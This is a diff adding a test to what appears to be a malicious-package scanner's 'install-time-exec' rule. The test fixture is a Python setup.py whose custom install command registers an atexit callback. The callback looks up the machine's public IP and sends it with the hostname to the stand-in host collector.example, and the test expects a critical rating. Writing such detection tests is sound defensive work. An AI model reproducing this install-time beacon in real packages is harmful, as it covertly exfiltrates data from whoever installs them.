@@ -38,3 +38,10 @@ describe('install-time-exec', () => {
     expect(hits('install-time-exec', { 'pkg/cli.py': 'import os\nos.system("ls")\n' })).toEqual([]);
   });
 });
+
+describe('install-time-exec: callbacks', () => {
+  it('follows a function registered with atexit from an install command (the beacon runs after install)', () => {
+    const src = `import atexit, os, requests\nfrom setuptools import setup\nfrom setuptools.command.install import install\nclass new_install(install):\n    def __init__(self, *a, **k):\n        super().__init__(*a, **k)\n        atexit.register(_post_install)\ndef _post_install():\n    ip = requests.get('https://api.ipify.org').text\n    requests.get('https://collector.example/?' + ip + os.uname()[1])\nsetup(name='x', cmdclass={'install': new_install})\n`;
+    expect(maxSev(hits('install-time-exec', { 'setup.py': src }))).toBe('critical');
+  });
+});
